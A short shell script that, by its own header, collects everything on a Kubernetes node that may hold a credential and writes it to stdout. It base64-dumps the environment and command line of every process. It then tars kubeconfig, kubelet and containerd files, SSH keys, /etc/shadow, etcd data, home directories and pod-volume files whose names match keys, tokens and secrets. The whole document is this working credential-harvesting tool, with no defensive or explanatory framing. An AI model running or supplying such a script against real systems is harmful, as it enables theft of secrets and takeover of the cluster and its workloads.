# Everything on a node that may hold a credential, on stdout: first one line a process, then a tar archive of files, then "end".
# Reads only. Bounds: 128 KiB an environment, 512 KiB a file, 20000 files.
for d in /proc/[0-9]*; do
  name=$(tr -d '\n\t ' <"$d/comm" 2>/dev/null) || continue
  for f in environ cmdline; do
    echo "$f ${d#/proc/} ${name:-?} $(head -c 131072 "$d/$f" 2>/dev/null | base64 | tr -d '\n')"
  done
done
echo files
# pods' volumes are file systems of their own: no -xdev; volumes with data are left out by kind, other data by size
{
  find /etc/kubernetes /etc/catamaran /etc/containerd /etc/cni /etc/ssh /etc/systemd/system /etc/rancher /root /home \
    /var/lib/catamaran /var/lib/cloud /run/catamaran -type f -size -1024 -print0
  find /var/lib/kubelet \( -name 'kubernetes.io~empty-dir' -o -name 'kubernetes.io~local-volume' -o -name 'kubernetes.io~csi' \
    -o -path /var/lib/kubelet/plugins \) -prune -o -type f -size -1024 -print0
  find /var/lib/kubelet/pods -path '*/kubernetes.io~empty-dir/*' -type f -size -64 \
    \( -name '*.conf' -o -name '*.y*ml' -o -name '*.json' -o -name '*.pem' -o -name '*.key' -o -name '*.crt' -o -name '*token*' -o -name '*secret*' \) -print0
  find /etc/shadow /var/lib/etcd /tmp /opt -maxdepth 2 -type f -size -64 \
    ! -name '*.snap' ! -name '*.wal' ! -name '*.db' -print0
} 2>/dev/null | head -z -n 20000 | tar --null --no-recursion -T - -cf - 2>/dev/null
echo end
